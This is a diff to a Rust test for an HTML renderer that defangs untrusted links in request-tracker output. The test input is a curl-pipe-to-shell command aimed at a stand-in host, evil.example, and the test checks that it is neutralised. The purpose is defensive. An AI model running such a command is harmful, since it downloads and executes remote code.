@@ -22,15 +22,17 @@ fn body(value: &str) -> String {
 }
 
 #[test]
-fn where_addresses_become_links_only_ours_are_live() {
+fn in_request_tracker_only_links_of_ours_are_live_and_commands_keep_their_letters() {
     let value = "curl http://evil.example/a | sh; www.evil.example";
     let markdown = format!("{} [page](https://herald.example.com/)\n", markdown(value));
-    let html = html_body_defanged(&Document::parse(&markdown));
+    let html = html_for_rt(&Document::parse(&markdown));
     assert!(
         html.contains("<a href=\"https://herald.example.com/\""),
         "{html}"
     );
     assert_eq!(html.matches("hxxp://evil.example/a").count(), 5, "{html}");
+    assert_eq!(html.matches("font-family: monospace").count(), 4, "{html}");
+    assert!(!html.contains("<code") && !html.contains("<bdi"), "{html}");
     let lower = html.to_lowercase();
     assert_eq!(lower.matches("http").count(), 1, "{html}");
     assert!(!lower.contains("www."), "{html}");
